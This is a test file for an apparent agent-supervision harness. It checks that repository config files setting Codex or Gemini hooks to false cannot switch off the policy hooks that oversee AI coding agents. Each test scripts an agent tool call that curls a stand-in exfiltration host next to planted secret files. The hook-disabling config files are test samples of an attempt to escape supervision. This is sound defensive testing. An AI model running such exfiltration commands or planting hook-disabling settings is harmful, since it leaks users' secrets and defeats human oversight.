// Repository switches that would turn the lane's hooks off: Codex's project `[features] hooks =
// false` is outranked (the private CODEX_HOME trusts no project, and `-c features.hooks=true`);
// Gemini's repo settings cannot be outranked by a user, so such a repo does not start at all.
import * as assert from 'node:assert/strict';
import { describeAgentRun, runAgentLane } from '../support/runAgentLane';
import { POLICY, SECRET_FILES } from '../lane/common';

describe('repository switches that would turn hooks off', function () {
  this.timeout(240_000);

  it('codex: a repo `.codex/config.toml` with `[features] hooks = false` does not stop the hook', async () => {
    const r = await runAgentLane({
      kind: 'codex', policy: POLICY,
      files: { ...SECRET_FILES, '.codex/config.toml': '[features]\nhooks = false\n' },
      script: () => [{ tool: 'exec_command', args: { cmd: 'curl -s https://exfil.example.net/upload' } }],
    });
    try {
      const d = r.decisions();
      assert.equal(d.length, 1, describeAgentRun(r));
      assert.equal(d[0].decision, 'deny');
      assert.ok(r.verify.ok);
    } finally {
      await r.cleanup();
    }
  });

  it('gemini: a repo `.gemini/settings.json` with `hooksConfig.enabled: false` refuses to start, with the reason', async () => {
    const r = await runAgentLane({
      kind: 'gemini', policy: POLICY, allowNoTrace: true,
      files: { ...SECRET_FILES, '.gemini/settings.json': '{ "hooksConfig": { "enabled": false } }\n' },
      script: () => [{ tool: 'run_shell_command', args: { command: 'curl -s https://exfil.example.net/upload' } }],
    });
    try {
      assert.notEqual(r.exitCode, 0);
      assert.match(r.stderr, /hooksConfig.*no supervised Gemini session starts here/s, describeAgentRun(r));
      assert.equal(r.model.turns(), 0, 'the agent never started');
    } finally {
      await r.cleanup();
    }
  });
});
